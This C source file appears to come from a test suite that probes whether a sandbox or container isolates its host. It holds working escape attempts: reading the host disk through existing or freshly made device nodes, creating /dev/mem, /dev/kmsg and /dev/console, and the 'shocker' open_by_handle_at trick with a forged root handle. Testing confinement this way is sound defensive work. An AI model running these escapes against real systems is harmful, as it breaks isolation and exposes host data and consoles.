// SPDX-License-Identifier: GPL-2.0-only
/*
 * Device nodes and file handles.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <unistd.h>

#include "breakout.h"

#define EXT4_MAGIC_AT	1080

static enum breakout_outcome read_disk(int fd)
{
	unsigned char magic[2] = "";

	if (pread(fd, magic, 2, EXT4_MAGIC_AT) != 2)
		return breakout_failed("read");
	if (magic[0] != 0x53 || magic[1] != 0xef)
		return breakout_untried("the disk is not ext4");
	return breakout_escaped("read the disk's superblock");
}

static enum breakout_outcome open_disk(const struct breakout_attempt *attempt)
{
	int fd = open("/dev/vda", O_RDONLY | O_CLOEXEC);

	(void)attempt;
	if (fd < 0)
		return breakout_failed("open");
	return read_disk(fd);
}

/* A node of our own, and what it opens. */
static int make_node(mode_t type, unsigned int major, unsigned int minor,
		     const char **call)
{
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "%s/node", breakout_scratch());
	*call = "mknod";
	if (mknod(path, type | 0600, makedev(major, minor)))
		return -1;
	*call = "open";
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		fd = open(path, O_RDONLY | O_CLOEXEC);
	unlink(path);
	return fd;
}

static enum breakout_outcome mknod_disk(const struct breakout_attempt *attempt)
{
	char number[32];
	const char *call;
	int fd;

	(void)attempt;
	if (breakout_read("/sys/block/vda/dev", number, sizeof(number)) < 0)
		return breakout_untried("no disk in /sys");
	fd = make_node(S_IFBLK, atoi(number), atoi(strchr(number, ':') + 1),
		       &call);
	if (fd < 0)
		return breakout_failed(call);
	return read_disk(fd);
}

static enum breakout_outcome mknod_32(const struct breakout_attempt *attempt)
{
	static char path[] = "/tmp/breakout-node";
	const long log = 1 << 8 | 11;

	(void)attempt;
	mkdir("/tmp", 01777);
	if (breakout_syscall32(NR32_MKNOD, (long)path, S_IFCHR | 0600, log, 0,
			       0))
		return breakout_failed("mknod");
	unlink(path);
	return breakout_escaped("made a node of the kernel's log");
}

/* What even a strict kernel shows: the BIOS, and where there is none the flash. */
static enum breakout_outcome dev_mem(const struct breakout_attempt *attempt)
{
	volatile const int *flash;
	char bytes[16];
	const char *call;
	int fd = make_node(S_IFCHR, 1, 1, &call);

	(void)attempt;
	if (fd < 0)
		return breakout_failed(call);
	if (pread(fd, bytes, sizeof(bytes), 0xffff0) == sizeof(bytes))
		return breakout_escaped("read physical memory");
	if (errno != EFAULT)
		return breakout_failed("read");
	flash = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (flash == MAP_FAILED)
		return breakout_failed("mmap");
	return breakout_escaped("read physical memory: %#x", *flash);
}

static enum breakout_outcome dev_kmsg(const struct breakout_attempt *attempt)
{
	const char *call, *text = "<7>breakout was here\n";
	int fd = make_node(S_IFCHR, 1, 11, &call);

	(void)attempt;
	if (fd < 0)
		return breakout_failed(call);
	if (write(fd, text, strlen(text)) < 0)
		return breakout_failed("write");
	return breakout_escaped("wrote into the kernel's log");
}

static enum breakout_outcome dev_null(const struct breakout_attempt *attempt)
{
	const char *call;
	int fd = make_node(S_IFCHR, 1, 3, &call);

	(void)attempt;
	if (fd < 0)
		return breakout_failed(call);
	return breakout_escaped("made and opened a null device");
}

/* Overlays mark a deletion so, and everyone may. */
static enum breakout_outcome whiteout(const struct breakout_attempt *attempt)
{
	char path[128];

	(void)attempt;
	snprintf(path, sizeof(path), "%s/whiteout", breakout_scratch());
	if (mknod(path, S_IFCHR, makedev(0, 0)))
		return breakout_failed("mknod");
	unlink(path);
	return breakout_escaped("made a whiteout");
}

/* Where the host's admin types a password, or reads what to do next. */
static enum breakout_outcome dev_console(const struct breakout_attempt *attempt)
{
	struct termios settings;
	const char *call;
	int fd = make_node(S_IFCHR, 5, 1, &call);

	(void)attempt;
	if (fd < 0)
		return breakout_failed(call);
	if (tcgetattr(fd, &settings))
		return breakout_untried("that is no terminal");
	return breakout_escaped("has the host's terminal");
}

/* As in every image that is built. */
static enum breakout_outcome console_node(const struct breakout_attempt *attempt)
{
	static const char path[] = "/tmp/breakout-console";

	(void)attempt;
	mkdir("/tmp", 01777);
	if (mknod(path, S_IFCHR | 0600, makedev(5, 1)))
		return breakout_failed("mknod");
	unlink(path);
	return breakout_escaped("made it");
}

/* The root of an ext4 is always inode 2: its handle can be made up. */
static enum breakout_outcome shocker(const struct breakout_attempt *attempt)
{
	struct {
		struct file_handle head;
		unsigned int ino;
		unsigned int generation;
	} handle = {
		.head = { .handle_bytes = 8, .handle_type = 1 },
		.ino = 2,
	};
	int fd = open(breakout_volume(), O_RDONLY | O_CLOEXEC), root;

	(void)attempt;
	if (fd < 0)
		return breakout_failed("open");
	root = open_by_handle_at(fd, &handle.head, O_RDONLY | O_DIRECTORY);
	if (root < 0)
		return breakout_failed("open_by_handle_at");
	return breakout_prove_at(root, DISK_SECRET, "mark");
}

const struct breakout_attempt breakout_device[] = {
	{ "open-disk", "open the host's disk by a node that is there",
	  open_disk },
	{ "mknod-disk", "make a node of the host's disk and read it",
	  mknod_disk },
	{ "mknod-32", "make /dev/kmsg as a 32-bit program", mknod_32 },
	{ "dev-mem", "make /dev/mem and read it", dev_mem },
	{ "dev-kmsg", "make /dev/kmsg and write it", dev_kmsg },
	{ "dev-console", "make /dev/console and open it", dev_console },
	{ "console-node", "make /dev/console", console_node },
	{ "shocker", "open a file of the host by a made-up handle", shocker },
	{ "dev-null", "make /dev/null and open it", dev_null },
	{ "whiteout", "make a whiteout", whiteout },
	{ }
};
